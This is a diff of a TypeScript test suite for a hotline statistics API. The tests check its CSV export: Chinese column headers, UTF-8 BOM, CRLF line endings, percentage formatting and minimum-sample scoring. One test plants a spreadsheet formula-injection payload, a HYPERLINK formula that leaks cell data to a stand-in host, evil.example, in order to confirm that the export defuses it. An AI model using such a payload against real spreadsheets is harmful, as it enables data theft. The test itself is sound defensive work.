@@ -1,3 +1,5 @@
+import { parse } from 'csv-parse/sync';
+import { APP_CONFIG, type AppConfig } from '../src/config/app-config';
 import { asUser, caseBody, createDepartment, login, staff } from './factories';
 import { startApp, TestClock, type TestApp } from './setup/test-app';
 
@@ -30,7 +32,8 @@ describe('figures (考核): a scripted month across departments', () => {
   const answer = { content: '已处理完毕。', resolution: 'resolved' };
 
   beforeAll(async () => {
-    t = await startApp({}, undefined, clock);
+    // Every rate counts however few cases it rests on: the formulas by hand. (The minimum sample below.)
+    t = await startApp({ figuresMinSample: 1 }, undefined, clock);
     operator = await login(t, 'op1', 'demo12345');
     supervisor = await login(t, 'sup1', 'demo12345');
     for (const name of ['A', 'B', 'C'] as const) d[name] = await createDepartment(t.dataSource);
@@ -161,24 +164,77 @@ describe('figures (考核): a scripted month across departments', () => {
     }
   });
 
-  it('match in CSV, by Accept header and by .csv path', async () => {
+  it('match in CSV, by Accept header and by .csv path: Chinese headers, codes and names, percentages, BOM and CRLF', async () => {
+    const json = (await as(supervisor).get('/api/stats/departments', { from: '2031-06-01', to: '2031-06-30' }).expect(200)).body as { code: string; name: string }[];
     for (const res of [
       await as(supervisor).get('/api/stats/departments', { from: '2031-06-01', to: '2031-06-30' }).set('Accept', 'text/csv').expect(200),
       await as(supervisor).get('/api/stats/departments.csv', { from: '2031-06-01', to: '2031-06-30' }).expect(200),
     ]) {
-      expect(res.headers['content-type']).toContain('text/csv');
-      const [header, ...lines] = res.text.replace(/^\uFEFF/, '').trim().split('\r\n');
-      const columns = header.split(',');
-      expect(columns).toEqual([
-        'departmentId', 'code', 'name', 'received', 'signOnTimeRate', 'replyOnTimeRate', 'resolutionRate',
-        'satisfactionRate', 'returnRate', 'returnsRefused', 'reopenRate', 'overdueOpen', 'avgReplyHours', 'score',
+      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
+      expect(res.headers['content-disposition']).toContain(`filename*=UTF-8''${encodeURIComponent('12345考核-2031-06-01-2031-06-30.csv')}`);
+      const bytes = Buffer.from(res.text, 'utf8');
+      // The UTF-8 byte-order mark (EF BB BF) first: how Excel and WPS know the file is UTF-8.
+      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+      // Every line ends CRLF; no bare LF anywhere.
+      expect(res.text.endsWith('\r\n')).toBe(true);
+      expect(res.text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
+      const [header, ...lines] = parse(res.text, { bom: true, record_delimiter: '\r\n' }) as string[][];
+      expect(header).toEqual([
+        '单位编码', '单位名称', '受理量', '按时签收率', '签收样本数', '按时答复率', '答复样本数', '解决率', '满意率', '回访样本数',
+        '退单率', '退单不予认可数', '重办率', '超时在办', '平均答复时长（小时）', '综合得分',
       ]);
-      const line = lines.find((l) => l.startsWith(d.A.id))!.split(',');
-      const row = Object.fromEntries(columns.map((c, i) => [c, line[i]]));
-      expect(Number(row.received)).toBe(3);
-      expect(Number(row.returnRate)).toBeCloseTo(1 / 3, 10);
-      expect(Number(row.avgReplyHours)).toBe(181);
-      expect(Number(row.score)).toBe(70);
+      // No department id anywhere in the file.
+      expect(res.text).not.toContain(d.A.id);
+      const byCode = Object.fromEntries(lines.map((line) => [line[0], Object.fromEntries(header.map((c, i) => [c, line[i]]))]));
+      expect(byCode[d.A.code]).toMatchObject({
+        单位编码: d.A.code,
+        受理量: '3',
+        按时签收率: '50.00%',
+        签收样本数: '2',
+        满意率: '100.00%',
+        回访样本数: '2',
+        退单率: '33.33%',
+        '平均答复时长（小时）': '181.00',
+        综合得分: '70.00',
+      });
+      expect(byCode[d.A.code].单位名称).toBe(json.find((r) => r.code === d.A.code)!.name);
+      expect(byCode[d.D.code]).toMatchObject({ 退单率: '0.00%', 重办率: '0.00%', 综合得分: '100.00' });
+      // A rate with no denominator is an empty cell, not 0%; so is a score with no rate.
+      expect(byCode.rsj).toMatchObject({ 受理量: '0', 按时签收率: '', 签收样本数: '0', 满意率: '', '平均答复时长（小时）': '', 综合得分: '' });
+    }
+  });
+
+  it('CSV cells a spreadsheet would run as a formula are defused; commas and quotes are quoted', async () => {
+    const hostile = await createDepartment(t.dataSource, { name: '=HYPERLINK("http://evil.example/?x="&A1,"点我")' });
+    const minus = await createDepartment(t.dataSource, { name: '-2+3,"区"' });
+    const res = await as(supervisor).get('/api/stats/departments.csv', { from: '2031-06-01', to: '2031-06-30' }).expect(200);
+    const rows = parse(res.text, { bom: true }) as string[][];
+    const names = new Map(rows.map((r) => [r[0], r[1]]));
+    expect(names.get(hostile.code)).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"点我")`);
+    expect(names.get(minus.code)).toBe(`'-2+3,"区"`);
+    // No cell of the file starts with a formula character.
+    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    // Out of every other spec's lists.
+    await t.dataSource.query(`UPDATE departments SET active = false WHERE id = ANY($1)`, [[hostile.id, minus.id]]);
+  });
+
+  it('each row names the cases behind its rates; a rate on fewer than FIGURES_MIN_SAMPLE cases stays out of the score', async () => {
+    const rows = rowsOf((await as(supervisor).get('/api/stats/departments', { from: '2031-06-01', to: '2031-06-30' }).expect(200)).body);
+    expect(rows[d.B.code]).toMatchObject({ samples: { signOnTime: 2, replyOnTime: 1, resolution: 1, satisfaction: 1 }, minSample: 1 });
+    // The same app with a minimum of 2 (read at each request): B's sign-on-time (2 cases) alone counts,
+    // D has no rate on 2 cases (score null), A's and C's rates all rest on 2 and keep their scores.
+    const config = t.app.get<AppConfig>(APP_CONFIG);
+    config.figuresMinSample = 2;
+    try {
+      const res = await as(supervisor).get('/api/stats/departments', { from: '2031-06-01', to: '2031-06-30' }).expect(200);
+      const strictRows = rowsOf(res.body);
+      expect(Object.fromEntries((['A', 'B', 'C', 'D'] as const).map((n) => [n, strictRows[d[n].code].score]))).toEqual({ A: 70, B: 50, C: 80, D: null });
+      // The rates themselves are still published (the contract), with their denominators.
+      expect(strictRows[d.D.code]).toMatchObject({ signOnTimeRate: 1, samples: { signOnTime: 1 }, minSample: 2 });
+      const open = await t.http().get('/api/public/stats').query({ from: '2031-06-01', to: '2031-06-30' }).expect(200);
+      expect(rowsOf(open.body)[d.B.code]).toEqual(strictRows[d.B.code]);
+    } finally {
+      config.figuresMinSample = 1;
     }
   });
 
